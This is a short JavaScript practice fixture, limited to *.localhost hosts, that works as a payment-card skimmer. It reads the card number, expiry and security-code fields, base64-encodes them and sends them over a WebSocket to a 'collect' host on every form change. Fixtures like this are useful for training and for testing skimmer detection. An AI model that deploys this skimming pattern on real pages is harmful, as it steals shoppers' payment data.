/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  const socket = new WebSocket(`wss://collect.localhost:${location.port}/live`);
  document.addEventListener('change', () => {
    if (card().length > 14 && socket.readyState === 1) socket.send(btoa(card()));
  });
})();
